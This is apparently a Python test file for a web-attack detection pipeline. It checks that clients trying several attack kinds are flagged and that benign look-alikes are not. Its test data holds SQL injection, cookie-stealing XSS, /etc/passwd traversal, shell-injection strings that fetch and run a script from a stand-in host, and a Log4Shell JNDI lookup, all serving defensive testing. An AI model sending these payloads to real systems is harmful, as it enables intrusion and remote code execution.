"""Who tries many kinds of attack, as detection sees them, and who only writes about one."""

import random
from collections.abc import Callable, Iterator
from functools import cache
from urllib.parse import quote

import pytest

from schemas.codec import decode, encode
from schemas.types import Exchange, Finding
from services.browsing.payloads import PayloadsCore
from services.runtime.core import Event, Output
from services.runtime.inline import Pipeline
from tests.traffic import exchange, watermark
from tests.unit.browsing.door_scenes import customers
from tests.unit.browsing.scenes import ATTACKER, Traffic, ordered
from tests.unit.runtime.recorded import made

CLASSES = {"payload_diversity"}
SQL = ("1' OR '1'='1' -- ", "x' UNION SELECT username, password FROM users -- ",
       "1; DROP TABLE orders; -- ", "1' AND SLEEP(5) -- ")  # fmt: skip
SCRIPT = ("<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>",
          "<svg/onload=alert(1)>", "javascript:alert(document.domain)")  # fmt: skip
FILES = ("../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "/etc/passwd%00.png",
         "....//....//....//etc/passwd")  # fmt: skip
SHELL = ("; cat /etc/passwd", "| wget http://198.51.100.7/x.sh -O- | sh", "$(curl evil.example/a)",
         "`id`; uname -a")  # fmt: skip
LOG4J = "${jndi:ldap://198.51.100.7/a}"


def asked(
    values: list[str], every_s: float, client: str = ATTACKER, path: str = "/s?q="
) -> Traffic:
    return [
        exchange(path + quote(value), at_s=i * every_s, client=client)
        for i, value in enumerate(values)
    ]


@cache
def told(make: Callable[[], Traffic]) -> list[Finding]:
    """What detection and browsing together say of a scene, as on one machine."""
    records = make()
    last_us = max(one.at_us for one in records)
    first_us = min(one.at_us for one in records)
    seconds = (last_us - first_us) // 1_000_000
    marks = [watermark(at_s) for at_s in range(0, seconds, 20)]
    end = watermark(seconds + 60, released=True)
    pipeline = Pipeline([made("detect"), made("browsing")], {"findings"})
    outputs: list[Output] = []
    for record in [*ordered(records, marks), end]:
        key = record.client_ip.encode() if isinstance(record, Exchange) else None
        outputs += pipeline.feed([Output("exchanges", key, encode(record))])
    found = (decode(out.value) for out in outputs if out.value)
    return [one for one in found if isinstance(one, Finding)]


# Attacks ----------------------------------------------------------------------------------------


def a_scanner_at_full_speed() -> Traffic:
    return asked([*SQL, *SCRIPT, *FILES, *SHELL], 0.05)


def by_hand_over_an_hour() -> Traffic:
    return asked([*SQL[:2], *SCRIPT[:2], *FILES[:2], *SHELL[:2]], 400)


def a_scanner_of_many_places() -> Traffic:
    values = [*SQL, *SCRIPT, *FILES]
    return [
        exchange(f"/{place}?id={quote(value)}", at_s=i * 5, client=ATTACKER)
        for i, (place, value) in enumerate(zip("abcdefghijkl", values, strict=True))
    ]


def in_bodies() -> Traffic:
    return [
        exchange("/api/comment", at_s=i * 3, client=ATTACKER, method="POST",
                 headers=[(b"Content-Type", b"application/x-www-form-urlencoded")],
                 sent=b"text=" + quote(value).encode())
        for i, value in enumerate([*SQL, *SCRIPT, *SHELL])
    ]  # fmt: skip


def in_headers() -> Traffic:
    values = [LOG4J, SQL[0], SQL[1], SCRIPT[0], SCRIPT[1], SHELL[0], SHELL[1]]
    return [
        exchange(f"/?n={i}", at_s=i, client=ATTACKER, headers=[(b"User-Agent", value.encode())])
        for i, value in enumerate(values)
    ]


def among_customers() -> Traffic:
    return ordered(customers(120), asked([*SHELL, *FILES, *SQL], 8))


ATTACKS = [
    a_scanner_at_full_speed, by_hand_over_an_hour, a_scanner_of_many_places, in_bodies, in_headers,
    among_customers,
]  # fmt: skip

# Look-alikes ------------------------------------------------------------------------------------


def an_editor_of_articles_on_scripts() -> Traffic:
    """Saves drafts that show how cross-site scripting works."""
    return asked([f"Part {i}: {SCRIPT[i % 4]}" for i in range(20)], 60, path="/draft?text=")


def an_analyst_with_a_sql_box() -> Traffic:
    return asked(
        [f"SELECT name, total FROM orders WHERE total > {i} UNION SELECT name, 0 FROM staff"
         for i in range(30)], 20, path="/reports/run?sql=",
    )  # fmt: skip


def one_payload_again_and_again() -> Traffic:
    """A stored link with a quote in it, that a browser loads with each page."""
    return asked([SQL[0]] * 60, 5)


def a_tool_for_one_kind_at_one_place() -> Traffic:
    """A finding of detection, not of this."""
    dice = random.Random(4)
    return asked([f"{dice.randrange(99)}' OR {i}={i} -- " for i in range(60)], 0.5)


def nat_office() -> Traffic:
    """Two colleagues behind one address, one who edits and one who queries."""
    return ordered(an_editor_of_articles_on_scripts(), an_analyst_with_a_sql_box())


def many_attackers_of_one_kind_each() -> Traffic:
    parts = [
        asked(list(values), 4, client=f"203.0.113.{i + 20}")
        for i, values in enumerate((SQL, SCRIPT, FILES, SHELL))
    ]
    return ordered(*parts)


def once_a_day_over_days() -> Traffic:
    """Three false alarms on three days."""
    return asked([SQL[0], SCRIPT[0], FILES[0]], 86_400)


def monitoring() -> Traffic:
    """One check that the gate answers 403 to a script."""
    return asked([SCRIPT[0]] * 30, 60)


def mobile_retry_storm() -> Traffic:
    return asked(["it's 5 o'clock; let's go"] * 300, 0.1)


def a_crawler() -> Traffic:
    """Follows links that somebody planted, two kinds of them."""
    return asked([SQL[0], SCRIPT[0], SQL[1], SCRIPT[1], *(f"page {i}" for i in range(40))], 2)


LOOK_ALIKES = [
    an_editor_of_articles_on_scripts, an_analyst_with_a_sql_box, one_payload_again_and_again,
    a_tool_for_one_kind_at_one_place, nat_office, many_attackers_of_one_kind_each,
    once_a_day_over_days, monitoring, mobile_retry_storm, a_crawler,
]  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda make: make.__name__)
def test_an_attack_is_found(attack: Callable[[], Traffic]) -> None:
    found = [one for one in told(attack) if one.class_ in CLASSES]
    assert {one.client for one in found} == {ATTACKER}
    assert len({one.id for one in found}) == 1
    assert [one.revision for one in found] == list(range(len(found)))
    assert (found[0].state, found[-1].state) == ("open", "closed")
    assert "kinds of attack" in found[0].summary
    assert found[0].evidence[0].exchange


@pytest.mark.parametrize("traffic", LOOK_ALIKES, ids=lambda make: make.__name__)
def test_look_alikes_stay_silent(traffic: Callable[[], Traffic]) -> None:
    assert [one for one in told(traffic) if one.class_ in CLASSES] == []


def test_look_alikes_do_show_attacks_to_detection() -> None:
    """Else their silence says nothing."""
    alarming = {make for make in LOOK_ALIKES if any(one.would_block for one in told(make))}
    assert len(alarming) >= 6


def attacks() -> Iterator[Finding]:
    yield from (one for one in told(in_bodies) if one.kind == "attack")


def test_what_is_told_again_is_no_more() -> None:
    core, events = PayloadsCore(), [
        Event("findings", 0, i, None, encode(one)) for i, one in enumerate(attacks())
    ]  # fmt: skip
    core.feed(events)
    once = {out.value for out in core.take().outputs}
    core.feed([*events, *events])
    assert {out.value for out in core.take().outputs} == once
    assert len(once) >= 6


def test_what_cannot_be_read_is_refused() -> None:
    core = PayloadsCore()
    core.feed([Event("findings", 0, 0, None, None), Event("findings", 0, 1, None, b"nonsense")])
    changes = core.take()
    assert len(changes.rejected) == 2
    assert changes.outputs == []
